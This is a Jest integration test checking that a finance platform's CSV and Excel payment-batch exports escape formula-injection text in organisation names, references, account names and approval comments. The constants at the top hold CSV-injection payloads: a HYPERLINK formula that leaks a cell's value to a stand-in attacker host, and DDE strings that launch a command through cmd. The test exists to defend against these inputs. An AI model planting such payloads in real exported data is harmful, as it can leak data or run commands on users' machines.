import {
  commitmentRequest,
  disbursementRequest,
  http,
  ProgrammeRequests,
  startPlatform,
  TEST_BANK_ACCOUNT,
  testRedisUrl,
  waitFor,
} from '@civic/testing';
import ExcelJS from 'exceljs';

jest.setTimeout(120_000);

// What an attacker names an organization, a purpose or an account (OWASP "CSV Injection").
const LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
const DDE = "=cmd|' /C calc'!A0";
const PLUS = '+1+1';
const AT = '@SUM(1)';
const MINUS = "-2+3+cmd|' /C calc'!A0";
const COMMENT = '=1+1';

/** A field a spreadsheet would run: it starts with = + - @ TAB or CR and is not a plain numeral. */
const runs = (text: string) => /^[=+\-@\t\r]/.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

/** The rows of a CSV text, split into fields (RFC 4180: quoted fields, doubled quotes, CRLF). */
function csvFields(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      rows.push([...row, field]);
      [row, field] = [[], ''];
      i += 1;
    } else {
      field += c;
    }
  }
  return rows;
}

/**
 * Issue #15, item 7: a batch export downloaded from the gateway, as CSV and as Excel, holds no
 * cell a spreadsheet would run as a formula. Text from outside (organization, account name,
 * purpose, the checker's comment) that starts one is prefixed with `'`; amounts stay as they are.
 */
describe('batch exports are safe against formula injection (issue #15)', () => {
  let platform: Awaited<ReturnType<typeof startPlatform>>;
  let checker: string;
  let batchId: string;

  beforeAll(async () => {
    platform = await startPlatform();
    const maker = await platform.login('maker');
    checker = await platform.login('checker');
    await http(
      'POST',
      `${platform.api}/v1/finance/budgets`,
      { fund: 'INCUBATION', fiscalYear: 2026, amountFen: 1_000_000 },
      { token: maker },
    );
    const programme = new ProgrammeRequests(testRedisUrl(), platform.prefix, 'incubation');
    const hostile = [
      { organizationName: LINK, reference: DDE, accountName: MINUS },
      { organizationName: PLUS, reference: AT, accountName: '青秀区邻里互助会' },
    ];
    const requests = hostile.map((names) => {
      const commitment = commitmentRequest({
        programme: 'incubation',
        fund: 'INCUBATION',
        amountFen: 500_000,
        reference: names.reference,
      });
      const payment = disbursementRequest(commitment, {
        organizationName: names.organizationName,
        reference: names.reference,
        bankAccount: { ...TEST_BANK_ACCOUNT, accountName: names.accountName },
      });
      return { commitment, payment };
    });
    await programme.commitments(requests.map((r) => r.commitment));
    await programme.disbursements(requests.map((r) => r.payment));
    await programme.close();
    await waitFor(
      'both payments awaiting a batch',
      async () =>
        (
          await http(
            'GET',
            `${platform.api}/v1/finance/payments?status=AWAITING_BATCH`,
            undefined,
            { token: maker },
          )
        ).body.total,
      (total) => total === 2,
    );
    const batch = await http(
      'POST',
      `${platform.api}/v1/finance/batches`,
      { paymentIds: requests.map((r) => r.payment.paymentId) },
      { token: maker },
    );
    expect(batch.status).toBe(201);
    batchId = batch.body.id;
    const approved = await http(
      'POST',
      `${platform.api}/v1/finance/batches/${batchId}/approve`,
      { comment: COMMENT },
      { token: checker },
    );
    expect(approved.status).toBe(200);
  });

  afterAll(async () => {
    await platform?.stop();
  });

  const download = async (format: 'csv' | 'xlsx') => {
    const answer = await fetch(
      `${platform.api}/v1/finance/batches/${batchId}/export?format=${format}`,
      {
        headers: { authorization: `Bearer ${checker}` },
      },
    );
    expect(answer.status).toBe(200);
    return answer.arrayBuffer();
  };

  // Strict UTF-8; the byte-order mark for Excel is taken off.
  const utf8 = new TextDecoder('utf-8', { fatal: true });

  it('CSV: every hostile field starts with a quote, and no field would run', async () => {
    const rows = csvFields(utf8.decode(await download('csv')));
    const [header, ...payments] = rows;
    expect(payments).toHaveLength(2);
    const column = (name: string) => payments.map((row) => row[header.indexOf(name)]).sort();
    expect(column('收款组织')).toEqual([`'${PLUS}`, `'${LINK}`].sort());
    expect(column('用途')).toEqual([`'${AT}`, `'${DDE}`].sort());
    expect(column('账户名')).toEqual([`'${MINUS}`, '青秀区邻里互助会'].sort());
    expect(column('金额（元）')).toEqual(['5000.00', '5000.00']);
    expect(rows.flat().filter(runs)).toEqual([]);
  });

  it('Excel: hostile text is a string cell starting with a quote; no cell is a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await download('xlsx'));
    // Every cell of every sheet, as `sheet!A1`, its type and its value.
    const cells = workbook.worksheets.flatMap((sheet) => {
      const found: { at: string; type: ExcelJS.ValueType; value: unknown }[] = [];
      sheet.eachRow((row) =>
        row.eachCell((c) =>
          found.push({ at: `${sheet.name}!${c.address}`, type: c.type, value: c.value }),
        ),
      );
      return found;
    });
    expect(cells.length).toBeGreaterThan(40);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.filter((c) => typeof c.value === 'string' && runs(c.value))).toEqual([]);
    for (const hostile of [LINK, DDE, PLUS, AT, MINUS, COMMENT]) {
      expect(cells.find((c) => c.value === `'${hostile}`)).toMatchObject({
        type: ExcelJS.ValueType.String,
      });
    }
    // The payment count stays a number cell.
    expect(cells.find((c) => c.at === '批次!B7')).toMatchObject({
      type: ExcelJS.ValueType.Number,
      value: 2,
    });
    const payments = workbook.getWorksheet('付款明细')!;
    const amount = (payments.getRow(1).values as unknown[]).indexOf('金额（元）');
    // Issue #18: amounts are numbers of yuan in a yuan format, so Excel sums them.
    for (const row of [2, 3]) {
      const { type, value, numFmt } = payments.getRow(row).getCell(amount);
      expect({ type, value, numFmt }).toEqual({
        type: ExcelJS.ValueType.Number,
        value: 5000,
        numFmt: '#,##0.00',
      });
    }
  });
});
